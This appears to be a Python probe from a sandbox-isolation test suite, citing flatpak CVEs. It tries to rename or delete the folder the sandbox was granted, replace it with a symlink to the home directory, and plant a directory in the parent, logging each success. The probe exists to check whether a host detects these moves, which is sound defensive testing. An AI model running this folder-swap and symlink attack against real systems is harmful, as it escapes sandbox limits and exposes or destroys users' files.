# Replaces the granted folder itself, so that the next launch grants something else: renamed, removed, made a link to
# the home (CVE-2024-42472 and CVE-2026-34078, flatpak; the host compares).
import os
import shutil
from contextlib import suppress

from common import HOME, PROJECT, facts, finish, hit

for folder in (PROJECT, facts["readonly"]):
    with suppress(OSError):
        os.rename(folder, folder + ".old")
        hit(f"{folder} was moved away")
    with suppress(OSError):
        shutil.rmtree(folder + "/sub", ignore_errors=True)
        os.rmdir(folder)
    with suppress(OSError):
        os.symlink(HOME, folder)
        hit(f"{folder} is a link now")
    # Where the cage's folders above it can be written, the host must not see it.
    with suppress(OSError):
        os.mkdir(os.path.dirname(folder) + "/planted")
finish()
